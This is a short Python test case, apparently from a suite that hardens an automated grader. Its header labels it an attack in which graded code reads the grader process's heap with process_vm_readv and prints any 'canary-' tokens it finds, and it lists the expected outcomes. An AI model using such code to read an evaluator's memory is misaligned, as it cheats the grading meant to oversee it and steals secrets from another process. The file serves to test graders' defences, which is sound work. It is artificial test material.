# class: reading
# attack: the grader's memory is read by process_vm_readv
# needs: sandbox
# expects double-values: wrong_answer
# expects double-gradients: wrong_answer

# %%
from contextlib import suppress
from pathlib import Path

import ctypes
import re


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(2**20)
with suppress(OSError):
    for line in Path("/proc/@grader@/maps").read_text().splitlines()[:3000]:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        for place in range(start, min(end, start + 32 * 2**20), 2**20) if "[heap]" in line else ():
            size = min(end - place, 2**20)
            libc.process_vm_readv(@grader@, ctypes.byref(Part(ctypes.addressof(buffer), size)), 1, ctypes.byref(Part(place, size)), 1, 0)
            for found in set(re.findall(rb"canary-[a-z]+-[0-9a-f]{16}", buffer.raw)):
                print(found.decode())
